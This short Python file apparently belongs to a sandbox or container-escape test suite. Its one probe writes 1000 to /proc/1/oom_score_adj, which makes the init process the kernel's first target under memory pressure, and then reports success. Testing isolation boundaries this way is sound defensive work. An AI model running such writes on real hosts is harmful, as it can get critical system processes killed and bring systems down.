"""Raises the out-of-memory score of pid 1."""

import os

from escape import attempt


@attempt
def init_oom_score():
    file = os.open("/proc/1/oom_score_adj", os.O_WRONLY)
    os.write(file, b"1000")
    return "changed init's score"
